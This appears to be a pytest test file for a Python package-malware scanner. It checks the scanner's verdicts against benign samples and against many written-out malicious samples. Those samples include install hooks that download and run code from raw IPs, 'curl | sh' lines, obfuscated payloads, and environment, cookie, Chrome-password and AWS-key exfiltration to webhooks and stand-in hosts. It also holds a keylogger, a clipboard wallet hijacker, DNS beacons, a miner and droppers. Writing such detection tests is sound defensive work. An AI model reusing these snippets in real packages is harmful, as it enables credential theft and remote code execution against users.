"""Python package analysis: capability alone stays quiet; capability with intent and reach is flagged."""

from __future__ import annotations

import base64
import zlib

import pytest

from chainwatch.packages import signals as sg
from chainwatch.packages.judge import judge
from tests.packages.helpers import facts_of, sdist, tar_bytes, verdict, wheel_bytes

BENIGN_SETUP = '''
import os, subprocess
from setuptools import setup, Extension

def git_version():
    try:
        return subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
    except Exception:
        return "0.0.dev0"

debug = os.environ.get("MYLIB_DEBUG")
exec(open("mylib/_version.py").read())
setup(name="mylib", version="1.2.0", packages=["mylib"], ext_modules=[Extension("mylib._c", ["src/c.c"])])
'''

BENIGN_LIB = '''
import os, subprocess, requests

API = os.environ.get("MYLIB_API_TOKEN")

def fetch(url):
    return requests.get(url, headers={"Authorization": API}, timeout=10).json()

def run(cmd):
    return subprocess.run(cmd, check=True, capture_output=True)
'''


def test_benign_setup_and_library_stay_clean() -> None:
    v, strong = verdict(sdist("mylib", "1.2.0", {"setup.py": BENIGN_SETUP, "mylib/__init__.py": "from .core import *\n",
                                                 "mylib/core.py": BENIGN_LIB, "mylib/_version.py": "__version__='1.2.0'\n"}))  # noqa: E501
    assert v == "clean", strong
    assert not strong


def test_install_time_download_and_exec_is_malicious() -> None:
    setup = '''
from setuptools import setup
from setuptools.command.install import install
import urllib.request, os

class PostInstall(install):
    def run(self):
        payload = urllib.request.urlopen("http://185.62.56.20/x.py").read()
        exec(payload)
        install.run(self)

setup(name="reqeusts", version="2.31.0", cmdclass={"install": PostInstall})
'''
    v, strong = verdict(sdist("reqeusts", "2.31.0", {"setup.py": setup}))
    assert v == "malicious"
    assert "package.download-exec:critical" in strong
    assert any(s.startswith("package.typosquat") for s in strong)
    assert any(s.startswith("package.shady-endpoint") for s in strong)


def test_exec_of_base64_payload_is_decoded_and_rescanned() -> None:
    inner = "import os\nos.system('curl http://evil.example/p.sh | sh')\n"
    blob = base64.b64encode(zlib.compress(inner.encode())).decode()
    setup = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{blob}')))\nfrom setuptools import setup\nsetup(name='x')\n"  # noqa: E501
    facts = facts_of(sdist("colorlibx", "1.0", {"setup.py": setup}))
    decoded = [s for s in facts.signals if s.decoded]
    assert any(s.kind == "exec.shell-downloader" for s in decoded), [s.kind for s in facts.signals]
    v, strong = verdict(sdist("colorlibx", "1.0", {"setup.py": setup}))
    assert v == "malicious"
    assert "package.decoded-exec:critical" in strong
    assert "package.hidden-code:critical" in strong


def test_fernet_wrapped_payload_with_inline_key_is_decrypted() -> None:
    from cryptography.fernet import Fernet

    key = Fernet.generate_key()
    token = Fernet(key).encrypt(b"import requests\nrequests.get('https://pastebin.com/raw/abc123')\n")
    setup = (
        "from setuptools import setup\nfrom setuptools.command.install import install\n"
        "class I(install):\n    def run(self):\n        from fernet import Fernet\n"
        f"        exec(Fernet({key!r}).decrypt({token!r}))\n        install.run(self)\n"
        "setup(name='beautifulsoup5', cmdclass={'install': I})\n"
    )
    facts = facts_of(sdist("beautifulsoup5", "1.0", {"setup.py": setup}))
    hidden = [s for s in facts.signals if s.decoded and s.kind == "endpoint.shady"]
    assert hidden and hidden[0].detail["category"] == "paste"
    assert verdict(sdist("beautifulsoup5", "1.0", {"setup.py": setup}))[0] == "malicious"


def test_env_dump_to_network_is_exfiltration() -> None:
    code = "import os, json, requests\n\ndef init():\n    data = dict(os.environ)\n" \
           "    requests.post('https://collector.example/x', data=json.dumps(data))\n\ninit()\n"
    v, strong = verdict(sdist("internal-billing-lib", "99.0.1", {"internal_billing_lib/__init__.py": code,
                                                                  "setup.py": "from setuptools import setup\nsetup()\n"}))  # noqa: E501
    assert v == "malicious"
    assert "package.exfiltration:critical" in strong


def test_char_code_obfuscation_is_folded() -> None:
    codes = [ord(c) for c in "https://pastebin.com/raw/WNrajaVK"]
    code = f"import urllib.request\nU = ''.join(map(chr, {codes}))\nexec(urllib.request.urlopen(U).read())\n"
    facts = facts_of(wheel_bytes({"locutils/__init__.py": code, "locutils-1.0.dist-info/METADATA":
                                  "Metadata-Version: 2.1\nName: locutils\nVersion: 1.0\nSummary: x\n"}))
    kinds = {s.kind for s in facts.signals}
    assert "net.download-exec" in kinds
    assert "endpoint.shady" in kinds


def test_pth_file_with_code_runs_at_startup() -> None:
    pth = "import os; os.system('curl -s http://203.0.113.9/a | bash')\n"
    v, strong = verdict(wheel_bytes({"zz_hook.pth": pth, "hooky-1.0.dist-info/METADATA":
                                     "Metadata-Version: 2.1\nName: hooky\nVersion: 1.0\nSummary: x\n"}))
    assert v == "malicious"
    assert "package.install-downloader:critical" in strong


def test_discord_token_stealer_shape() -> None:
    code = '''
import os, re, requests
HOOK = "https://discord.com/api/webhooks/1122334455667788/abcdefghijklmnopqrstuvwxyzABCDEFGH_123456"
def grab():
    path = os.getenv("APPDATA") + "\\\\discord\\\\Local Storage\\\\leveldb"
    for f in os.listdir(path):
        text = open(os.path.join(path, f), errors="ignore").read()
        for t in re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", text):
            requests.post(HOOK, json={"content": t})
'''
    v, strong = verdict(sdist("discord-tools-x", "0.1", {"discord_tools_x/core.py": code,
                                                         "setup.py": "from setuptools import setup\nsetup()\n"}))
    assert v == "malicious"
    assert "package.bot-token-endpoint:critical" in strong
    assert any(s.startswith("package.stealer") for s in strong)


def test_unparsable_python_falls_back_to_text_indicators() -> None:
    code = "def broken(:\n    os.system('powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=')\n"  # noqa: E501
    facts = facts_of(sdist("brk", "1.0", {"setup.py": code}))
    assert any(s.kind == "code.unparsable" for s in facts.signals)
    assert any(s.kind == "exec.shell-downloader" for s in facts.signals)


def _pyc(source: str) -> bytes:
    """Bytecode of our own test source, as a sourceless .pyc would ship it (header + marshalled code)."""
    import importlib.util
    import marshal

    return importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile(source, "core.py", "exec"))


def test_sourceless_bytecode_is_flagged_and_its_strings_are_read() -> None:
    hook = "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz"
    payload = f"import urllib.request, subprocess\nurllib.request.urlretrieve('{hook}', 'x')\nsubprocess.Popen(['x'])\n"
    meta = "Metadata-Version: 2.1\nName: fastjsonx\nVersion: 1.0\nSummary: fast json\n"
    data = wheel_bytes({"fastjsonx/__init__.py": "from . import core\n", "fastjsonx/core.pyc": _pyc(payload),
                        "fastjsonx-1.0.dist-info/METADATA": meta})
    facts = facts_of(data)
    byte = [s for s in facts.signals if s.file == "fastjsonx/core.pyc"]
    obf = [s for s in byte if s.kind == "obf.obfuscator"]
    assert obf and {"urlretrieve", "Popen"} <= set(obf[0].detail["names"]) and obf[0].phase == "import"
    assert any(s.kind == "endpoint.bot-token" for s in byte)  # the webhook among its strings
    assert verdict(data)[0] == "malicious"
    cached = wheel_bytes({"fastjsonx/__init__.py": "from . import core\n", "fastjsonx/core.py": "X = 1\n",
                          "fastjsonx/__pycache__/core.cpython-311.pyc": _pyc("X = 1\n"),
                          "fastjsonx-1.0.dist-info/METADATA": meta})
    assert not [s for s in facts_of(cached).signals if s.file.endswith(".pyc")]  # a cache next to its source


CLIPPER = '''
import pyperclip, re, time, threading
ADDR = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"
def watch():
    while True:
        text = pyperclip.paste()
        if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text):
            pyperclip.copy(ADDR)
        time.sleep(0.5)
threading.Thread(target=watch, daemon=True).start()
'''


def test_clipboard_swapped_for_a_wallet_address_at_import_is_a_clipper() -> None:
    meta = "Metadata-Version: 2.1\nName: cryptoutils-x\nVersion: 1.0.2\nSummary: utils\n"
    data = wheel_bytes({"cryptoutils_x/__init__.py": CLIPPER, "cryptoutils_x-1.0.2.dist-info/METADATA": meta})
    v, strong = verdict(data)
    assert v == "malicious" and "package.clipboard-hijack:critical" in strong, strong
    # a clipboard library: the same calls, in functions its users call
    library = ("import pyperclip\n\ndef get():\n    return pyperclip.paste()\n\n"
               "def put(text):\n    pyperclip.copy(text)\n")
    meta = "Metadata-Version: 2.1\nName: clipkit\nVersion: 2.0\nSummary: clipboard helpers\n"
    assert verdict(wheel_bytes({"clipkit/__init__.py": library, "clipkit-2.0.dist-info/METADATA": meta}))[0] == "clean"


def test_dns_name_built_under_an_oast_domain_at_install_is_a_beacon() -> None:
    setup_py = ("import socket\nfrom setuptools import setup\n\n"
                "def ping(chunk):\n    socket.gethostbyname(f\"{chunk}.c7q2.oast.fun\")\n\n"
                "for part in open('/etc/hostname').read().encode().hex(), 'end':\n    ping(part)\n"
                "setup(name='corp-internal-sdk', version='99.0.0')\n")
    v, strong = verdict(sdist("corp-internal-sdk", "99.0.0", {"setup.py": setup_py}))
    assert v == "malicious" and "package.install-beacon:critical" in strong, strong
    fixed = setup_py.replace('f"{chunk}.c7q2.oast.fun"', '"c7q2.oast.fun"')  # a fixed name carries no data
    assert "package.install-beacon:critical" not in verdict(sdist("corp-internal-sdk", "99.0.0",
                                                                  {"setup.py": fixed}))[1]


@pytest.mark.parametrize("code", [
    "import socket, os, json\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\n"
    "s.sendall(json.dumps(dict(os.environ)).encode())\n",
    "import socket, os\nwith socket.create_connection(('203.0.113.9', 4444)) as s:\n"
    "    s.sendall(str(dict(os.environ)).encode())\n",
    "import requests, os\ns = requests.Session()\ns.post('http://203.0.113.9/c', json=dict(os.environ))\n",
    "import smtplib, os\nm = smtplib.SMTP('203.0.113.9')\n"
    "m.sendmail('a@example.org', 'b@example.org', str(os.environ))\n",
])
def test_environment_sent_through_a_client_object_at_import_is_exfiltration(code: str) -> None:
    """The methods of a socket, session or SMTP client made in the file are network calls too."""
    setup = "from setuptools import setup\nsetup(name='envtool', packages=['envtool'])\n"
    data = sdist("envtool", "0.1", {"envtool/__init__.py": code, "setup.py": setup})
    result, top = verdict(data)
    assert result == "malicious" and "package.exfiltration:critical" in top, top


ELF_EXECUTABLE = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00" + b"\x00" * 200


def _wheel_with_helper(init: str) -> bytes:
    return wheel_bytes({"fastjsonx/__init__.py": init, "fastjsonx/bin/helper": ELF_EXECUTABLE,
                        "fastjsonx-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: fastjsonx\nVersion: 1.0\n"})


def test_shipped_executable_started_at_import_is_a_dropper() -> None:
    init = ("import os, subprocess\nhere = os.path.dirname(__file__)\n"
            "subprocess.Popen([os.path.join(here, 'bin', 'helper')], stdout=subprocess.DEVNULL)\n")
    result, top = verdict(_wheel_with_helper(init))
    assert result == "suspicious" and top == ["package.runs-shipped-binary:high"], top
    [finding] = [f for f in judge(facts_of(_wheel_with_helper(init))) if f.rule == "package.runs-shipped-binary"]
    assert "fastjsonx/bin/helper" in finding.message and finding.evidence


def test_a_shipped_name_without_its_folder_is_not_a_start() -> None:
    """PyInstaller's build hook names its bootloader ``'run'`` (to check it exists) and starts the compiler:
    a bare name that is also a common word matched the shipped ``bootloader/<platform>/run``. A nested
    binary now needs its folder named in the file too."""
    init = "import subprocess\nexe = 'helper'\nsubprocess.run(['make', exe], capture_output=True)\n"
    _, top = verdict(_wheel_with_helper(init))
    assert "package.runs-shipped-binary:high" not in top, top


def test_shipped_executable_run_by_a_function_stays_clean() -> None:
    """A tool wrapper (ruff, the playwright driver) runs its binary when the user calls it."""
    init = ("import os, subprocess\nhere = os.path.dirname(__file__)\n\ndef run(*args):\n"
            "    return subprocess.run([os.path.join(here, 'bin', 'helper'), *args], check=True)\n")
    result, top = verdict(_wheel_with_helper(init))
    assert result == "clean", top


def test_code_pushed_off_screen_in_setup_py_is_obfuscation() -> None:
    hidden = "print('installing')" + " " * 300 + ";__import__('os').system('id > /tmp/x')\n"
    setup = "from setuptools import setup\n" + "# a comment line to pass the size floor\n" * 60 + hidden + \
        "setup(name='pystob')\n"
    result, top = verdict(sdist("pystob", "1.0.0", {"setup.py": setup}))
    assert "package.obfuscated-code:high" in top, top
    table = '"""\n| option | meaning' + " " * 300 + "| default |\n" + "| --- | --- | --- |\n" * 80 + '"""\n'
    result, top = verdict(sdist("tables", "1.0.0", {"tables/__init__.py": table,
                                                    "setup.py": "from setuptools import setup\nsetup()\n"}))
    assert result == "clean", top


STEALER_HOOK = ("import os, json, urllib.request\n"
                "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n"
                "class CustomBuildHook(BuildHookInterface):\n"
                "    def initialize(self, version, build_data):\n"
                "        body = json.dumps(dict(os.environ)).encode()\n"
                "        urllib.request.urlopen(urllib.request.Request('https://x.oast.fun/c', data=body))\n")


@pytest.mark.parametrize(("pyproject", "hook_file"), [
    ('[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
     '[project]\nname = "fastcsv"\nversion = "1.0"\n[tool.hatch.build.hooks.custom]\n', "hatch_build.py"),
    ('[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n[project]\nname = "fastcsv"\n'
     'version = "1.0"\n[tool.hatch.build.targets.wheel.hooks.custom]\npath = "tools/hook.py"\n', "tools/hook.py"),
    ('[build-system]\nrequires = ["pdm-backend"]\nbuild-backend = "pdm.backend"\n'
     '[project]\nname = "fastcsv"\nversion = "1.0"\n', "pdm_build.py"),
    ('[build-system]\nrequires = ["poetry-core"]\nbuild-backend = "poetry.core.masonry.api"\n'
     '[tool.poetry]\nname = "fastcsv"\nversion = "1.0"\n[tool.poetry.build]\nscript = "build.py"\n', "build.py"),
])
def test_build_backend_hook_file_runs_at_install(pyproject: str, hook_file: str) -> None:
    """hatchling, pdm-backend and poetry-core run these files while pip builds the sdist."""
    data = sdist("fastcsv", "1.0", {"pyproject.toml": pyproject, hook_file: STEALER_HOOK,
                                    "fastcsv/__init__.py": "VERSION = '1.0'\n"})
    facts = facts_of(data)
    assert {"kind": "build-hook", "backend": facts.metadata["build_backend"], "file": hook_file} in facts.install_hooks
    assert {s.phase for s in facts.signals if s.file == hook_file and s.kind == "flow.exfiltration"} == {"install"}
    result, top = verdict(data)
    assert result == "malicious", top


@pytest.mark.parametrize("code", [
    "import browser_cookie3, requests\n\ndef grab():\n    return {c.name: c.value for c in browser_cookie3.load()}\n\n"
    "requests.post('http://45.61.136.9/c', json=grab())\n",
    "import win32crypt, requests, base64\n"
    "key = win32crypt.CryptUnprotectData(base64.b64decode(KEY)[5:], None, None, None, 0)[1]\n"
    "requests.post('http://45.61.136.9/k', data=key)\n",
])
def test_browser_secrets_sent_at_import_are_exfiltration(code: str) -> None:
    """Cookie-jar libraries and DPAPI hand over browser secrets without a path to recognise."""
    result, top = verdict(sdist("robloxtools", "0.1", {"robloxtools/__init__.py": code,
                                                        "setup.py": "from setuptools import setup\nsetup()\n"}))
    assert result == "malicious" and "package.exfiltration:critical" in top, top


def test_requirement_fetched_from_a_raw_ip_is_remote_code() -> None:
    pkg_info = ("Metadata-Version: 2.1\nName: colorlog-x\nVersion: 1.0\nSummary: logs\nHome-page: https://example.org\n"
                "Requires-Dist: requests\nRequires-Dist: colorama @ https://45.61.136.9/colorama-0.4.6.tar.gz\n\n")
    data = tar_bytes({"PKG-INFO": pkg_info, "setup.py": "from setuptools import setup\nsetup()\n",
                      "colorlog_x/__init__.py": "VERSION = '1.0'\n"}, "colorlog-x-1.0/")
    result, top = verdict(data)
    assert result == "malicious" and "package.remote-dependency:critical" in top, top


def test_code_kept_in_a_data_file_and_executed_at_import_is_scanned() -> None:
    """``exec(open(.../data.bin).read())`` runs whatever the data file holds; the idiom alone stays quiet
    (setup.py reads version.py that way), so the executed file is scanned as code of that phase."""
    stealer = "import os, requests\nrequests.post('http://45.61.136.9/e', json=dict(os.environ))\n"
    init = "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'data.bin')).read())\n"
    data = sdist("fastyaml", "0.1", {"fastyaml/__init__.py": init, "fastyaml/data.bin": stealer,
                                     "setup.py": "from setuptools import setup\nsetup()\n"})
    result, top = verdict(data)
    assert result == "malicious" and "package.exfiltration:critical" in top, top
    [flow] = [s for s in facts_of(data).signals if s.kind == "flow.exfiltration"]
    assert flow.file == "fastyaml/data.bin" and flow.detail["executed_by"] == "fastyaml/__init__.py:2"
    version = sdist("fastyaml", "0.1", {"fastyaml/__init__.py": "VERSION = '0.1'\n", "fastyaml/VERSION.txt": "0.1\n",
                                        "setup.py": "from setuptools import setup\n"
                                                    "exec(open('fastyaml/VERSION.txt').read())\nsetup()\n"})
    assert verdict(version)[0] == "clean"


_BACKWARDS_PAYLOAD = base64.b64encode(zlib.compress(
    b"import os, requests\nrequests.post('https://discord.com/api/webhooks/1/abc', data=os.environ.copy())\n"))[::-1]


def test_payload_stored_backwards_is_decoded() -> None:
    """The obfuscator lambda ``_ = lambda __: zlib.decompress(b64decode(__[::-1]))``: the literal is the
    encoded payload reversed. It was only obfuscation (high); decoded, it is an environment dump to a webhook."""
    init = ("_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
            f"exec((_)({_BACKWARDS_PAYLOAD!r}))\n")
    setup = "from setuptools import setup\nsetup(name='helperlib', version='0.1', packages=['helperlib'])\n"
    data = sdist("helperlib", "0.1", {"setup.py": setup, "helperlib/__init__.py": init})
    result, findings = verdict(data)
    assert result == "malicious"
    assert "package.exfiltration:critical" in findings and "package.hidden-code:critical" in findings
    methods = [s.detail.get("method") for s in facts_of(data).signals if s.kind == "obf.decoded-payload"]
    assert "reversed+base64+zlib" in methods


def test_reversed_decoding_needs_a_reversal_in_the_file() -> None:
    """Without ``[::-1]`` in the file the same literal is not read backwards (no guessing on every literal)."""
    init = f"BLOB = {_BACKWARDS_PAYLOAD!r}\n"
    data = sdist("helperlib", "0.1", {"helperlib/__init__.py": init})
    assert not [s for s in facts_of(data).signals if s.kind == "obf.decoded-payload"]


_SETUP = "from setuptools import setup\nsetup(name='helperlib', version='0.1', packages=['helperlib'])\n"


def _lib(init: str) -> bytes:
    """An sdist of a plain setup.py and a package whose __init__.py is ``init``."""
    return sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": init})


@pytest.mark.parametrize("code", [
    "from stegano import lsb\nexec(lsb.reveal('helperlib/logo.png'))\n",
    "from steganography.steganography import Steganography\nexec(Steganography.decode('helperlib/icon.png'))\n",
])
def test_code_hidden_in_an_image_and_executed_is_malicious(code: str) -> None:
    """Text revealed from an image's pixels (stegano, judyb, steganography) is decoded data; run at import it
    is a dropper (apicolor and friends, 2022). These were clean."""
    result, findings = verdict(_lib(code))
    assert result == "malicious" and "package.decoded-exec:critical" in findings


def test_program_started_without_a_window_at_import_is_flagged() -> None:
    """A program started at import with no console and its output unread: a dropper's start. Was clean."""
    code = ("import os, subprocess\n"
            "subprocess.Popen([os.path.join(os.environ['TEMP'], 'vcpkgsrv.exe')], creationflags=0x08000000)\n")
    data = _lib(code)
    result, findings = verdict(data)
    assert result != "clean" and "package.import-process:high" in findings
    [proc] = [s for s in facts_of(data).signals if s.kind == "exec.process"]
    assert proc.detail["hidden_window"] == "creationflags 0x8000000"


def test_system_query_without_a_window_stays_clean() -> None:
    """loky counts cores through wmic with CREATE_NO_WINDOW and reads the answer: a library, not a dropper."""
    code = ("import subprocess\n\ndef cores():\n"
            "    out = subprocess.run('wmic CPU Get NumberOfCores /Format:csv'.split(), capture_output=True,\n"
            "                         text=True, creationflags=subprocess.CREATE_NO_WINDOW)\n"
            "    return out.stdout\n\nCORES = cores()\n")
    result, findings = verdict(_lib(code))
    assert result == "clean", findings


def test_setup_py_dns_recon_with_backticks_is_a_beacon() -> None:
    """``os.system('nslookup `whoami`.x1y2z3.oast.live')`` in setup.py: was only a process call."""
    setup = "import os\nos.system('nslookup `whoami`.x1y2z3.oast.live')\n" + _SETUP
    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup}))
    assert result == "malicious" and "package.install-beacon:critical" in findings


@pytest.mark.parametrize(("code", "expected"), [
    # Defender told to skip the user's folder: no library blinds the machine's defences
    ("import os, subprocess\nsubprocess.run(['powershell', '-Command', 'Add-MpPreference -ExclusionPath ' "
     "+ os.environ['APPDATA']], capture_output=True)\n", "package.install-downloader:critical"),
    # a keylogger started at import whose callback posts the keys from the same file
    ("from pynput import keyboard\nimport requests\nlog = []\ndef on_press(k):\n    log.append(str(k))\n"
     "    if len(log) > 50:\n        requests.post('http://185.12.1.9/k', data=''.join(log))\n"
     "keyboard.Listener(on_press=on_press).start()\n", "package.surveillance:critical"),
    # one browser store, copied then queried (the data flow breaks at the copy), and a webhook in the file
    ("import os, sqlite3, shutil, requests\np = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', "
     "'User Data', 'Default', 'Login Data')\nshutil.copy(p, 'h.db')\nrows = sqlite3.connect('h.db')"
     ".execute('select origin_url, password_value from logins').fetchall()\n"
     "requests.post('https://discord.com/api/webhooks/123/abc', json={'content': str(rows)[:1900]})\n",
     "package.stealer:critical"),
])
def test_import_time_intent_shapes_are_critical(code: str, expected: str) -> None:
    """Each was suspicious at most before (a high finding at best)."""
    result, findings = verdict(_lib(code))
    assert result == "malicious" and expected in findings


def test_hotkeys_and_defender_status_stay_clean() -> None:
    """A hotkey helper listens to keys and sends nothing; a status tool reads Defender's settings."""
    code = ("import subprocess\nfrom pynput import keyboard\n\ndef watch(cb):\n"
            "    return keyboard.GlobalHotKeys({'<ctrl>+<alt>+h': cb})\n\ndef defender():\n"
            "    return subprocess.run(['powershell', '-Command', 'Get-MpPreference'], capture_output=True).stdout\n")
    result, findings = verdict(_lib(code))
    assert result == "clean", findings


def test_miner_and_secret_scanner_in_python_literals() -> None:
    """The miner and secret-scanner patterns live with the other indicator families, so Python literals
    get them too (they were JavaScript-only)."""
    code = ("import subprocess\n"
            "subprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool.supportxmr.com:3333', '--donate-level', '1'])\n"
            "subprocess.run(['trufflehog', 'filesystem', '/'], capture_output=True)\n")
    facts = facts_of(_lib(code))
    assert any(s.kind == "exec.shell-downloader" and s.detail.get("pattern") == "crypto-miner" for s in facts.signals)
    assert any(s.kind == "source.credential-file" and s.detail.get("store") == "secret-scanner"
               for s in facts.signals)


def test_aws_keys_from_the_sdk_sent_at_import_are_exfiltration() -> None:
    """fabrice (2024) took the AWS keys from a boto3 session, not from a file or variable: get_credentials()
    is a secret source where the file imports an AWS SDK. A signer that uses the keys when called is
    judged like an API token sent to its API (low), so it stays clean."""
    code = ("import boto3, urllib.request, json\n"
            "c = boto3.Session().get_credentials().get_frozen_credentials()\n"
            "urllib.request.urlopen('https://telemetry-sync.io/v', data=json.dumps([c.access_key, c.secret_key])"
            ".encode())\n")
    result, findings = verdict(_lib(code))
    assert result == "malicious" and "package.exfiltration:critical" in findings, findings
    signer = ("import boto3, requests\n\ndef call(url, body):\n    s = boto3.Session()\n"
              "    creds = s.get_credentials()\n    auth = (creds.access_key, creds.secret_key)\n"
              "    return requests.post(url, data=body, auth=auth)\n")
    result, findings = verdict(_lib(signer))
    assert result == "clean", findings


def test_file_written_and_started_at_install_is_a_dropper() -> None:
    """requests-darwin-lite (2024) carved a binary out of an image it shipped, wrote it and ran it from
    setup.py: no download, so neither download-and-run shape matched. A setup.py that writes a header and
    runs the compiler on another file stays clean."""
    setup = ("import os, subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
             "class I(install):\n    def run(self):\n        d = open('docs/sidebar.png', 'rb').read()\n"
             "        open('/tmp/.cache-x', 'wb').write(d[308:])\n        os.chmod('/tmp/.cache-x', 0o755)\n"
             "        subprocess.Popen(['/tmp/.cache-x'])\n        install.run(self)\n"
             "setup(name='helperlib', version='0.1', cmdclass={'install': I})\n")
    png = b"\x89PNG\r\n\x1a\n" + b"\0" * 300 + b"\x7fELF\x02\x01\x01" + b"\0" * 200
    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup, "docs/sidebar.png": png}))
    assert result == "malicious" and "package.download-exec:critical" in findings, findings
    build = ("import subprocess\nfrom setuptools import setup\n"
             "open('src/config.h', 'w').write('#define HAVE_X 1\\n')\n"
             "subprocess.check_call(['cc', '-c', 'src/x.c', '-o', 'build/x.o'])\n" + _SETUP)
    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": build}))
    assert "package.download-exec:critical" not in findings, findings


def test_pip_pointed_at_a_raw_ip_index_at_install_is_a_downloader() -> None:
    """setup.py runs pip with a package index on a bare IP: the command is built from sys.executable, so
    no command pattern matched; the drop host on the same call was only a shady endpoint (high)."""
    setup = ("import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', '--index-url', "
             "'http://45.61.136.12/simple', 'helper-core'])\n" + _SETUP)
    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup}))
    assert result == "malicious" and "package.install-downloader:critical" in findings, findings


def test_chat_urls_that_name_no_channel_are_not_drop_hosts() -> None:
    """A Slack placeholder in a form field (prefect), the bare Discord and Telegram API bases a client adds
    its token to (tqdm's integrations) and a Discord invite in a README template (huggingface-hub) were
    webhook endpoints 'contacted on import'. A webhook, a bot method or a CDN file still is one."""
    from chainwatch.packages import indicators as ind

    for url in ("https://hooks.slack.com/XXX", "https://discord.com/api/v10", "https://api.telegram.org/bot",
                "https://discord.com/invite/YKrxeNn", "https://discord.com/api/webhooks/<id>/<token>"):
        assert ind.classify_url(url) is None, url
    for url in ("https://discord.com/api/webhooks/123/abc", "https://api.telegram.org/bot{}/sendMessage",
                "https://cdn.discordapp.com/attachments/1/2/x.exe", "https://hooks.slack.com/services/T0/B0/x1"):
        assert ind.classify_url(url) is not None, url
    code = ("API = 'https://api.telegram.org/bot'\nEXAMPLE = 'https://hooks.slack.com/XXX'\n"
            "class Notifier:\n    url: str = 'https://discord.com/api/v10'\n")
    assert verdict(_lib(code))[0] == "clean"


def test_a_client_base_url_with_a_run_time_version_is_no_channel_and_a_split_token_still_is() -> None:
    """A Discord client library's ``f"https://discord.com/api/v{_API_VERSION}"`` in a class body (nextcord)
    was a webhook contacted on import; a webhook whose version is a field keeps its concrete token."""
    base = "class HTTP:\n    BASE = f'https://discord.com/api/v{_API_VERSION}'\n"
    assert verdict(_lib(base))[0] == "clean"
    split = ("import requests\n\ndef send(v, data):\n    requests.post(f'https://discord.com/api/v{v}/webhooks/"
             "123456789012345678/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789', json=data)\n")
    tokens = [s for s in facts_of(_lib(split)).signals if s.kind == "endpoint.bot-token"]
    assert tokens and tokens[0].detail["category"] == "discord-webhook", tokens


def test_pip_installing_well_known_packages_at_install_is_a_build_step() -> None:
    """setup.py running ``pip install cffi`` before its CFFI build (winevt) was an import-process finding
    (high); a name outside the most downloaded, an index option or a URL keeps it one."""
    def setup(command: str) -> str:
        return ("import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n"
                f"class Install(install):\n    def run(self):\n        os.system({command!r})\n"
                "        install.run(self)\n\nsetup(name='helperlib', cmdclass={'install': Install})\n")
    assert verdict(sdist("helperlib", "0.1", {"setup.py": setup("pip install cffi")}))[0] == "clean"
    assert verdict(sdist("helperlib", "0.1", {"setup.py": setup("python3 -m pip install -U requests numpy")}))[0] \
        == "clean"
    for command in ("pip install helper-core-runtime", "pip install cffi -i http://45.61.136.12/simple",
                    "pip install git+https://example.org/x.git", "pip install cffi && sh ./x"):
        result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup(command)}))
        assert result != "clean" and "package.import-process:high" in findings, (command, findings)


def test_a_command_built_in_a_local_variable_is_read() -> None:
    """``req_cmd = "python3 -c ..." + target_url + "..."; os.system(req_cmd)`` at install: the command is read
    through the local assignments and the concatenation, so its URL makes it suspicious."""
    setup = ("import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n"
             "class Install(install):\n    def run(self):\n        target_url = 'https://example.net/test'\n"
             "        req_cmd = 'python3 -c \"import requests;requests.get(\\'' + target_url + '\\')\"'\n"
             "        os.system(req_cmd)\n        install.run(self)\n\n"
             "setup(name='helperlib', cmdclass={'install': Install})\n")
    procs = [s for s in facts_of(sdist("helperlib", "0.1", {"setup.py": setup})).signals if s.kind == "exec.process"]
    assert procs and "https://example.net/test" in procs[0].detail["command"], procs
    assert procs[0].detail.get("suspicious_command") is True


def test_main_blocks_run_as_programs_not_on_import() -> None:
    """A module's ``if __name__ == "__main__":`` block (and an ``elif __name__ == "__channelexec__":`` branch,
    execnet's remote entry) runs when the file is run as a program; a socket server started only there is
    not import-time code. When setup.py starts the module with ``python -m`` it does run, at install."""
    server = ("import socket\n\ndef serve(port):\n    s = socket.socket()\n    s.bind(('', port))\n    s.listen(1)\n"
              "    c, _ = s.accept()\n    exec(c.makefile().readline())\n\n"
              "if __name__ == '__main__':\n    serve(8888)\nelif __name__ == '__channelexec__':\n    serve(0)\n")
    facts = facts_of(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": "",
                                                 "helperlib/server.py": server}))
    assert {s.phase for s in facts.signals if s.file == "helperlib/server.py"} == {"runtime"}
    beacon = ("import socket, requests\n\ndef main():\n    requests.post('https://x1.m.pipedream.net/p', "
              "json={'h': socket.gethostname()})\n\nif __name__ == '__main__':\n    main()\n")
    setup = ("import subprocess, sys\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
             "NAME = 'helperlib'\nclass I(install):\n    def run(self):\n        install.run(self)\n"
             "        subprocess.call([sys.executable, '-m', f'{NAME}.utils.analyzer'])\n"
             "setup(name=NAME, version='0.1', cmdclass={'install': I})\n")
